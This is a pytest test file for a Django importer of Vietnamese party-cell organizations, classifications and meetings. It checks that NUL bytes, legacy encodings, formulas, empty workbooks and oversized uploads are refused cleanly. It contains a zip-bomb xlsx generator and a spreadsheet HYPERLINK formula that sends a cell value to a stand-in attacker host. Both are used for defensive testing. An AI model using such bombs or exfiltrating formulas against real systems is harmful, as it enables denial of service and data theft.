"""Files as offices really save them, and files made to hurt: every importer reads them or refuses
them with a message, never a traceback, and writes nothing of a refused file."""

import datetime
import io
import time
import tracemalloc
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import CommandError, call_command
from django.urls import reverse
from openpyxl import Workbook

from assessments.models import Classification
from cells.models import Meeting, Organization, Run
from cells.tabular import TabularFileError, parse_date, read_rows
from cells.uploads import check_workbook
from tests.cells.importfiles import cp1258, tcvn3
from tests.webimports import english

ORG_HEADER = "code,name,kind,parent_code\n"
NEW_CELL = "D-A-9,Chi bộ Khuổi Mò,Chi bộ trực thuộc,D-A\n"


def command(name, path, *args):
    """Run an import command; return (exit error or None, what it printed)."""
    out, err = io.StringIO(), io.StringIO()
    try:
        call_command(name, str(path), *args, stdout=out, stderr=err)
    except CommandError as error:
        return error, out.getvalue() + err.getvalue()
    return None, out.getvalue() + err.getvalue()


def rows_of(path, required=("code", "name"), optional=()):
    errors = []
    return list(read_rows(path, required=required, optional=optional, errors=errors)), errors


def xlsx(path, rows):
    workbook = Workbook()
    for row in rows:
        workbook.active.append(row)
    workbook.save(path)
    return path


# ---------------------------------------------------------------- a NUL or an unreadable cell


@pytest.mark.parametrize(
    ("command_name", "text", "column"),
    [
        ("import_organizations", ORG_HEADER + "D-A-9,Chi bộ\x00 Khuổi Mò,Chi bộ trực thuộc,D-A\n", "name"),
        ("import_organizations", ORG_HEADER + "D-A-9\x00,Chi bộ Khuổi Mò,Chi bộ trực thuộc,D-A\n", "code"),
        ("import_classifications", "code,year,level,note\nD-A,2018,good,ghi\x00chú\n", "note"),
        ("import_classifications", "code,year,level\nD-A,2018,#REF!\n", "level"),
        ("import_meetings", "cell_code,date,kind,members_total,members_present,topic\n"
                            "D-A-1,05/03/2018,regular,20,18,Th\x00áng 3\n", "topic"),
        ("import_meetings", "cell_code,date,kind,members_total,members_present\nD-A-1,05/03/2018,regular,²,18\n",
         "members_total"),
        ("import_meetings", "cell_code,date,kind,members_total,members_present\nD-A-1,05/03/2018,regular,99999,18\n",
         "members_total"),
    ],
)  # fmt: skip
def test_a_nul_or_an_unreadable_value_is_a_row_error_of_the_command(tree, tmp_path, command_name, text, column):
    path = tmp_path / "file.csv"
    path.write_bytes(text.encode())
    before = (Organization.objects.count(), Classification.objects.count(), Meeting.objects.count())

    for args in (["--dry-run"], []):  # the check and the real run say the same
        error, printed = command(command_name, path, *args)
        assert error is not None and "Traceback" not in printed
        assert f"Row 2, column {column}:" in printed
    assert (Organization.objects.count(), Classification.objects.count(), Meeting.objects.count()) == before


@pytest.mark.usefixtures("runs_at_once")  # the check is a background run (tests/conftest.py)
def test_a_nul_in_an_uploaded_file_is_reported_in_the_preview(client, tree, alice, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    english(client, alice)
    upload = SimpleUploadedFile("orgs.csv", (ORG_HEADER + "D-A-9,Chi bộ\x00,Chi bộ trực thuộc,D-A\n").encode())
    response = client.post(reverse("cells:import"), {"file": upload}, follow=True)
    assert response.status_code == 200 and Run.objects.get().state == "failed"
    assert response.context["problems"][0].startswith("Row 2, column name:")
    assert not Organization.objects.filter(code="D-A-9").exists()
    assert not list((tmp_path / "media" / "imports").iterdir())


@pytest.mark.parametrize("character", [b"&#0;", b"\x00", b"&#7;"])
def test_a_nul_in_an_excel_cell_makes_the_workbook_unreadable(tree, tmp_path, character):
    """XML cannot hold a NUL: Excel never writes one, and a workbook patched to hold one is refused whole."""
    path = xlsx(tmp_path / "orgs.xlsx", [["code", "name"], ["D-A-9", "Chi bộ XNULX"]])
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in parts.items():
            archive.writestr(name, data.replace(b"XNULX", character))
    with pytest.raises(TabularFileError, match="not a readable Excel"):
        rows_of(path)


# ---------------------------------------------------------------- files as offices save them


def test_a_bom_and_semicolons_as_excel_writes_them_in_vietnam(tmp_path):
    path = tmp_path / "orgs.csv"
    path.write_bytes("\ufeffcode;name\r\nD-A-9;Chi bộ Khuổi Mò, thôn Nà Mò\r\n".encode())
    rows, errors = rows_of(path)
    assert rows == [(2, {"code": "D-A-9", "name": "Chi bộ Khuổi Mò, thôn Nà Mò"})] and errors == []


def test_a_semicolon_file_imports_organizations(tree, tmp_path):
    path = tmp_path / "orgs.csv"
    path.write_bytes(b"\xef\xbb\xbf" + (ORG_HEADER + NEW_CELL).replace(",", ";").encode())
    error, printed = command("import_organizations", path)
    assert error is None, printed
    assert Organization.objects.get(code="D-A-9").parent == tree.a


def replace_cell(path, cell: str, xml) -> None:
    """Rewrite one cell of the first sheet: `xml(old)` gives the new `<c>` element from the old one."""
    with zipfile.ZipFile(path) as source:
        parts = {name: source.read(name) for name in source.namelist()}
    sheet = parts["xl/worksheets/sheet1.xml"].decode()
    start = sheet.index(f'<c r="{cell}"')
    end = sheet.index("</c>", start) + len("</c>")
    parts["xl/worksheets/sheet1.xml"] = (sheet[:start] + xml(sheet[start:end]) + sheet[end:]).encode()
    with zipfile.ZipFile(path, "w") as target:
        for name, data in parts.items():
            target.writestr(name, data)


def as_excel_saves_a_formula(path, cell: str, shown: str | None) -> None:
    """Give the formula cell the value Excel showed (its cached value); None: never calculated."""
    cached = f"<v>{shown}</v>" if shown is not None else ""
    replace_cell(path, cell, lambda old: old.split("<v")[0].replace(">", ' t="str">', 1) + cached + "</c>")


def test_a_formula_in_a_cell_imports_what_excel_showed_and_a_formula_typed_as_text_stays_text(tree, tmp_path):
    path = xlsx(
        tmp_path / "orgs.xlsx",
        [
            ["code", "name", "kind", "parent_code"],
            ["D-A-9", '="Chi bộ "&"Khuổi Mò"', "Chi bộ trực thuộc", "D-A"],
            ["D-A-8", '=HYPERLINK("http://evil.example/"&A1,"click")', "Chi bộ trực thuộc", "D-A"],
        ],
    )
    as_excel_saves_a_formula(path, "B2", "Chi bộ Khuổi Mò")
    typed = '<c r="B3" t="inlineStr"><is><t>=HYPERLINK("http://evil.example/"&amp;A1,"click")</t></is></c>'
    replace_cell(path, "B3", lambda old: typed)  # typed with a leading apostrophe: a text cell, no formula

    error, printed = command("import_organizations", path)

    assert error is None, printed
    names = dict(Organization.objects.filter(code__in=["D-A-8", "D-A-9"]).values_list("code", "name"))
    assert names == {"D-A-9": "Chi bộ Khuổi Mò", "D-A-8": '=HYPERLINK("http://evil.example/"&A1,"click")'}


def test_a_formula_never_calculated_is_a_row_error_not_an_empty_value(tree, tmp_path):
    path = xlsx(
        tmp_path / "orgs.xlsx", [["code", "name", "kind", "parent_code"], ["D-A-9", '="Chi bộ "&"X"', "cell", "D-A"]]
    )
    as_excel_saves_a_formula(path, "B2", None)  # a file written by a program, never opened in Excel

    error, printed = command("import_organizations", path)

    assert error is not None and "Row 2, column name:" in printed
    assert not Organization.objects.filter(code="D-A-9").exists()


@pytest.mark.parametrize(
    ("content", "encoding"),
    [
        (cp1258("code,name\nD-A-9,Đảng bộ xã Gia Miễn\n"), "Windows-1258"),
        (tcvn3("code,name\nD-A-9,Đảng bộ xã Tân Mỹ\n"), "TCVN3 (ABC)"),
    ],
)
def test_an_old_vietnamese_encoding_is_named_with_how_to_save_as_utf8(tmp_path, content, encoding):
    path = tmp_path / "orgs.csv"
    path.write_bytes(content)
    with pytest.raises(TabularFileError) as refusal:
        rows_of(path)
    assert f"({encoding})" in str(refusal.value) and "CSV UTF-8" in str(refusal.value)


@pytest.mark.vietnamese
def test_the_encoding_message_is_vietnamese(tmp_path):
    path = tmp_path / "orgs.csv"
    path.write_bytes(cp1258("code,name\nD-A-9,Đảng bộ xã Gia Miễn\n"))
    with pytest.raises(TabularFileError) as refusal:
        rows_of(path)
    assert "UTF-8" in str(refusal.value) and "mã" in str(refusal.value)


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_duplicated_headers_are_refused(tmp_path, suffix):
    path = tmp_path / f"orgs{suffix}"
    if suffix == ".csv":
        path.write_text("code,name,Name\nD-A-9,a,b\n")
    else:
        xlsx(path, [["code", "name", "Name "], ["D-A-9", "a", "b"]])
    with pytest.raises(TabularFileError, match="names the column"):
        rows_of(path)


def test_excel_date_cells_and_error_cells(tmp_path):
    path = xlsx(
        tmp_path / "m.xlsx",
        [
            ["code", "name", "date"],
            ["A", "#DIV/0!", datetime.datetime(2018, 3, 5)],
            ["B", "x", datetime.date(2018, 3, 6)],
        ],
    )
    rows, errors = rows_of(path, optional=("date",))
    assert [parse_date(values["date"]) for _n, values in rows] == [datetime.date(2018, 3, 5), datetime.date(2018, 3, 6)]
    assert [(error.row, error.column) for error in errors] == [(2, "name")]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("05/03/2018", (2018, 3, 5)),
        ("5/3/2018", (2018, 3, 5)),
        ("2018-03-05", (2018, 3, 5)),
        ("2018-3-5", (2018, 3, 5)),
        ("2018/03/05", (2018, 3, 5)),
        ("05-03-2018", (2018, 3, 5)),
        ("05.03.2018", (2018, 3, 5)),
        ("2018-03-05 00:00:00", (2018, 3, 5)),
        ("2018-03-05T14:30", (2018, 3, 5)),
        (" 05/03/2018 ", (2018, 3, 5)),
        ("ngày 05 tháng 3 năm 2018", (2018, 3, 5)),
        ("Ngày 5 tháng 03 năm 2018", (2018, 3, 5)),
        ("31/12/2018", (2018, 12, 31)),
        # refused: ambiguous, impossible or not a date
        ("12/31/2018", None),
        ("05/03/18", None),
        ("05/03-2018", None),
        ("30/02/2018", None),
        ("43165", None),
        ("March 5, 2018", None),
        ("０５/０３/２０１８", None),
        ("²5/03/2018", None),
        ("05/03/0001", None),
        ("", None),
        ("\x00", None),
    ],
)
def test_dates_in_the_usual_spellings(text, expected):
    assert parse_date(text) == (datetime.date(*expected) if expected else None)


def test_a_meeting_file_with_several_date_spellings(tree, tmp_path):
    path = tmp_path / "meetings.csv"
    path.write_text(
        "cell_code,date,kind,members_total,members_present\n"
        "D-A-1,5/1/2018,regular,20,18\nD-A-1,2018-02-05,regular,20,18\nD-A-1,05.03.2018,regular,20,18\n"
        "D-A-2,03/13/2018,regular,20,18\n",
        encoding="utf-8",
    )
    error, printed = command("import_meetings", path)
    assert error is not None and "Row 5, column date:" in printed and Meeting.objects.count() == 0
    path.write_text(path.read_text().rsplit("D-A-2", 1)[0], encoding="utf-8")
    error, printed = command("import_meetings", path)
    assert error is None, printed
    assert sorted(Meeting.objects.values_list("date", flat=True)) == [
        datetime.date(2018, 1, 5),
        datetime.date(2018, 2, 5),
        datetime.date(2018, 3, 5),
    ]


# ---------------------------------------------------------------- workbooks that hurt


def no_worksheet(path):
    """A workbook whose list of sheets is empty (Excel itself never saves one; a script can)."""
    xlsx(path, [["code", "name"]])
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist() if "worksheets/" not in name}
    workbook = parts["xl/workbook.xml"].decode()
    start, end = workbook.index("<sheets>"), workbook.index("</sheets>") + len("</sheets>")
    parts["xl/workbook.xml"] = (workbook[:start] + "<sheets/>" + workbook[end:]).encode()
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return path


def empty_first_sheet(path):
    workbook = Workbook()
    workbook.create_sheet("second").append(["code", "name"])
    workbook.save(path)
    return path


def bomb(path, megabytes=300):
    """290 KB or so on disk: one shared string of `megabytes` MB."""
    xlsx(path, [["code", "name"], ["D-A-9", "x"]])
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist() if name != "xl/sharedStrings.xml"}
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
        with archive.open("xl/sharedStrings.xml", "w", force_zip64=True) as part:
            part.write(b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>')
            chunk = b"A" * (1024 * 1024)
            for _ in range(megabytes):
                part.write(chunk)
            part.write(b"</t></si></sst>")
    return path


def not_a_zip(path):
    path.write_bytes(b"PK\x03\x04 not really")
    return path


@pytest.mark.parametrize(
    ("make", "message"),
    [
        (no_worksheet, "has no worksheet"),
        (empty_first_sheet, "first sheet of the workbook is empty"),
        (not_a_zip, "not a readable Excel"),
    ],
)
def test_a_workbook_without_a_table_is_refused(tmp_path, make, message):
    path = make(tmp_path / "orgs.xlsx")
    with pytest.raises(TabularFileError, match=message):
        rows_of(path)


def test_a_zip_bomb_is_refused_quickly_and_without_memory(tmp_path):
    path = bomb(tmp_path / "bomb.xlsx")
    assert path.stat().st_size < 1024 * 1024
    tracemalloc.start()
    started = time.monotonic()
    with pytest.raises(TabularFileError, match="would expand"):
        rows_of(path)
    elapsed = time.monotonic() - started
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert elapsed < 1 and peak < 5 * 1024 * 1024


@pytest.mark.parametrize("make", [no_worksheet, empty_first_sheet, lambda path: bomb(path, megabytes=20)])
def test_the_upload_form_refuses_the_workbook_and_keeps_nothing(client, tree, alice, settings, tmp_path, make):
    settings.MEDIA_ROOT = tmp_path / "media"
    client.force_login(alice)
    upload = SimpleUploadedFile("orgs.xlsx", make(tmp_path / "orgs.xlsx").read_bytes())
    response = client.post(reverse("cells:import"), {"file": upload})
    assert response.status_code == 200 and response.context["form"].errors["file"]
    imports = tmp_path / "media" / "imports"
    assert not imports.exists() or not list(imports.iterdir())


def test_a_real_workbook_passes_the_check(tmp_path):
    path = xlsx(tmp_path / "orgs.xlsx", [["code", "name"], *[[f"C{i}", "Chi bộ " * 5] for i in range(20000)]])
    check_workbook(path)
    rows, errors = rows_of(path)
    assert len(rows) == 20000 and errors == []


def test_an_upload_over_the_limit_is_refused_before_it_is_read(client, alice, settings):
    settings.VANLANG_MAX_UPLOAD_MB = 1
    client.force_login(alice)
    upload = SimpleUploadedFile("orgs.csv", b"code,name\n" + b"A,B\n" * 800_000)
    response = client.post(reverse("cells:import"), {"file": upload})
    assert response.status_code == 413
